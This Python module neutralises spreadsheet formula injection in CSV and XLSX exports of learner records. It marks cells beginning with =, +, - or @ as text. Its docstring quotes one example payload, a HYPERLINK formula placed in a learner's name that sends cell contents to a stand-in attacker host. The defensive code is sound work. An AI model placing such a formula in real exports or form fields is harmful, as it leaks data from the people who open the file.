"""Cells for spreadsheets and CSV files that a spreadsheet program shows as text, never runs.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some programs skip before looking) is read as a formula by Excel, LibreOffice and Google Sheets:
a learner named ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would become a live link in a
registrar's export. CSV cells of that kind get a leading apostrophe (the usual text marker);
XLSX cells are stored as text. Plain signed numbers (``-5``, ``+1.5``) stay as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARKER = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)?|[.,]\d+)")


def looks_like_formula(value: object) -> bool:
    """True when ``value`` is text a spreadsheet program would evaluate as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and _PLAIN_NUMBER.fullmatch(value) is None
    )


def csv_cell(value: Any) -> Any:
    """Return ``value`` ready for a CSV writer: formula-like text behind the text marker."""
    return TEXT_MARKER + value if looks_like_formula(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """Return a row of values with every cell passed through `csv_cell`."""
    return [csv_cell(value) for value in values]


def csv_record(record: dict[str, Any]) -> dict[str, Any]:
    """Return a dictionary row (for ``csv.DictWriter``) with every value through `csv_cell`."""
    return {key: csv_cell(value) for key, value in record.items()}


def unmarked(cell: str) -> str:
    """Return a cell read back from one of our CSV files without the text marker we added."""
    if cell.startswith(TEXT_MARKER) and looks_like_formula(cell[1:]):
        return cell[1:]
    return cell


class _Cell(Protocol):
    value: Any
    data_type: str


class _Sheet(Protocol):
    def append(self, iterable: Sequence[Any]) -> None: ...

    @property
    def max_row(self) -> int: ...

    def __getitem__(self, key: int) -> tuple[_Cell, ...]: ...


def append_text_safe(sheet: _Sheet, values: Sequence[Any]) -> None:
    """Append ``values`` as a row of an openpyxl worksheet, formula-like text stored as text."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if looks_like_formula(cell.value):
            cell.data_type = "s"
